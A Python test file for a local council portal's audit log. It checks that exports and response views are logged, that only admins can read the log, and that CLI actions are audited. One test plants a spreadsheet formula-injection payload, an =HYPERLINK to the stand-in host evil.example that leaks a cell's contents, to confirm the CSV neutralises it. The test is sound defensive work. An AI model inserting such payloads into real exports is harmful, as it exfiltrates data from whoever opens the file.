"""The audit log, through the real portal app over HTTP on SQLite and PostgreSQL: every export and every view of
a single response is recorded (who, when, what, filter, rows), admins read it and download it as CSV (itself
audited and safe to open in a spreadsheet), and nobody else can."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import pytest
from sqlalchemy import select

from actions.store.accounts import add_user
from actions.store.models import ResponseRow
from actions.store.repository import Store
from tests.test_portal_sign_in import (
    ADMIN,
    COUNCILLOR,
    HARBOUR,
    OFFICER,
    PASSWORD,
    browsers,
    cli_user,
    portal_settings,
    run_cli,
    running_portal,
    set_up_in_portal,
    with_responses_and_accounts,
)

HEADER = [
    "id",
    "at",
    "actor",
    "role",
    "ip",
    "action",
    "target",
    "rows",
    "format",
    "layout",
    "personal_data",
    "ward",
    "channel",
    "since",
    "until",
    "theme",
    "answers",
    "consultation",
    "account_change",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(body: bytes) -> list[dict]:
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, like the response exports
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def portal_store(seeded_store) -> Store:
    return with_responses_and_accounts(seeded_store)


def riverside_reference(store: Store) -> str:
    with store.session() as session:
        return session.scalar(select(ResponseRow.reference).where(ResponseRow.ward_slug == "riverside"))


@pytest.mark.asyncio
async def test_exports_and_single_response_views_are_in_the_audit_log(portal_store):
    async with running_portal(portal_settings(portal_store.url), portal_store) as base, browsers(base, 2) as (officer, admin):
        assert await officer.sign_in(OFFICER, address="192.0.2.10") == 302
        status, _, download = await officer.get(f"/consultations/{HARBOUR}/export?format=csv&ward=riverside", "192.0.2.10")
        assert status == 200 and download.count(b"\r\n") == 2  # the header and Riverside's one response
        path = f"/consultations/{HARBOUR}/export?format=json&ward=all&personal=1&since=2026-11-01&until=2026-11-30"
        assert (await officer.get(path, "192.0.2.10"))[0] == 200
        reference = riverside_reference(portal_store)
        assert (await officer.get(f"/responses/{reference}", "192.0.2.10"))[0] == 200
        assert (await officer.get("/responses/MB-NONE-NONE", "192.0.2.10"))[0] == 404  # nothing shown, nothing logged

        assert await admin.sign_in(ADMIN, address="192.0.2.20") == 302
        status, _, page = await admin.get("/admin/audit")
        assert status == 200
        text = page.decode()
        assert "3 entries" in text
        rows = re.findall(r"<tr>\s*(.*?)\s*</tr>", text.split("<tbody>")[1], re.S)
        cells = [re.findall(r"<td[^>]*>(.*?)</td>", row, re.S) for row in rows]
        # Newest first: when, who, address, what, of, rows, details.
        assert [cell[1:] for cell in cells] == [
            [f"{OFFICER} (officer)", "192.0.2.10", "Viewed response", reference, "1", f"consultation {HARBOUR}"],
            [
                f"{OFFICER} (officer)",
                "192.0.2.10",
                "Export",
                HARBOUR,
                "2",
                "format json, layout wide, personal data, since 2026-11-01, until 2026-11-30",
            ],
            [f"{OFFICER} (officer)", "192.0.2.10", "Export", HARBOUR, "1", "format csv, layout wide, ward riverside"],
        ]
        assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", cell[0]) for cell in cells)

        status, headers, body = await admin.get("/admin/audit.csv", "192.0.2.20")
        assert status == 200 and headers["Content-Type"].startswith("text/csv")
        assert re.fullmatch(r'attachment; filename="audit-log-\d{4}-\d\d-\d\d\.csv"', headers["Content-Disposition"])
        entries = read_csv(body)
        assert [(e["actor"], e["role"], e["ip"], e["action"], e["target"], e["rows"]) for e in entries] == [
            (OFFICER, "officer", "192.0.2.10", "export", HARBOUR, "1"),
            (OFFICER, "officer", "192.0.2.10", "export", HARBOUR, "2"),
            (OFFICER, "officer", "192.0.2.10", "view_response", reference, "1"),
        ]
        first, second, view = entries
        assert (first["format"], first["layout"], first["personal_data"], first["ward"], first["channel"]) == (
            "csv",
            "wide",
            "no",
            "riverside",
            "",
        )
        assert (second["format"], second["personal_data"], second["ward"], second["since"], second["until"]) == (
            "json",
            "yes",
            "",
            "2026-11-01",
            "2026-11-30",
        )
        assert view["consultation"] == HARBOUR
        assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", e["at"]) for e in entries)

        # Downloading the log is itself in the log, with the number of entries it held.
        again = read_csv((await admin.get("/admin/audit.csv"))[2])
        assert (again[-1]["actor"], again[-1]["action"], again[-1]["target"], again[-1]["rows"], again[-1]["ip"]) == (
            ADMIN,
            "export_audit_log",
            "audit_log",
            "3",
            "192.0.2.20",
        )


@pytest.mark.asyncio
async def test_only_admins_see_the_audit_log_and_admins_can_do_what_officers_can(portal_store):
    async with running_portal(portal_settings(portal_store.url), portal_store) as base:
        for email in (OFFICER, COUNCILLOR):
            async with browsers(base) as browser:
                assert await browser.sign_in(email) == 302
                assert b'href="/admin/audit"' not in (await browser.get("/"))[2]
                for path in ("/admin/audit", "/admin/audit.csv", "/admin/audit?page=2"):
                    status, _, body = await browser.get(path)
                    assert status == 403 and b"Only administrators" in body, (email, path)
        async with browsers(base) as anonymous:
            status, headers, _ = await anonymous.get("/admin/audit.csv")
            assert status == 302 and headers["Location"].startswith("/login")
        async with browsers(base) as admin:
            assert await admin.sign_in(ADMIN) == 302
            assert b'href="/admin/audit"' in (await admin.get("/"))[2]
            assert (await admin.get("/admin/audit"))[0] == 200
            assert (await admin.get("/admin/audit.csv"))[0] == 200
            # An admin is an officer too: personal data exports and single responses.
            assert (await admin.get(f"/consultations/{HARBOUR}/export?format=csv&personal=1"))[0] == 200
            assert (await admin.get(f"/responses/{riverside_reference(portal_store)}"))[0] == 200


@pytest.mark.asyncio
async def test_the_audit_csv_is_safe_to_open_in_a_spreadsheet(portal_store):
    add_user(portal_store, "=2+5@millbrook.gov.uk", PASSWORD, "officer")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    async with running_portal(portal_settings(portal_store.url), portal_store) as base, browsers(base, 2) as (officer, admin):
        assert await officer.sign_in("=2+5@millbrook.gov.uk") == 302
        status, _, _ = await officer.get(f"/consultations/{HARBOUR}/export?format=csv&ward=all&channel={quote(formula, safe='')}")
        assert status == 200
        assert await admin.sign_in(ADMIN) == 302
        entries = read_csv((await admin.get("/admin/audit.csv"))[2])
        assert entries[0]["actor"] == "'=2+5@millbrook.gov.uk"
        assert entries[0]["channel"] == "'" + formula
        assert entries[0]["rows"] == "0"
        assert not [cell for entry in entries for cell in entry.values() if cell.startswith(FORMULA_STARTS)]


@pytest.mark.asyncio
async def test_the_cli_makes_admins_and_its_exports_are_audited(portal_store, tmp_path):
    made = run_cli(portal_store.url, PASSWORD + "\n", "user", "add", "head.of.service@millbrook.gov.uk", "--role", "admin")
    assert made.returncode == 0, made.stderr
    assert "Created admin account head.of.service@millbrook.gov.uk" in made.stdout
    out = tmp_path / "export.csv"
    exported = run_cli(portal_store.url, "", "export", "--consultation", HARBOUR, "--ward", "harbourside", "--out", str(out))
    assert exported.returncode == 0, exported.stderr
    async with running_portal(portal_settings(portal_store.url), portal_store) as base, browsers(base) as admin:
        assert await admin.sign_in("head.of.service@millbrook.gov.uk") == 302
        # An admin made on the command line must set up an authenticator app before anything else opens.
        status, headers, _ = await admin.get("/admin/audit.csv")
        assert (status, headers["Location"]) == (303, "/account/two-factor")
        await set_up_in_portal(admin, "head.of.service@millbrook.gov.uk")
        entries = read_csv((await admin.get("/admin/audit.csv"))[2])
        made = entries[0]
        assert (made["actor"], made["role"], made["action"], made["target"]) == (
            cli_user(),
            "cli",
            "create_account",
            "head.of.service@millbrook.gov.uk",
        )
        assert made["account_change"] == "role admin, ward none, two-factor required no"
        cli = entries[1]
        assert cli["actor"].startswith("cli:") and len(cli["actor"]) > 4
        assert (cli["role"], cli["action"], cli["target"], cli["rows"], cli["ward"], cli["format"]) == (
            "cli",
            "export",
            HARBOUR,
            "1",
            "harbourside",
            "csv",
        )
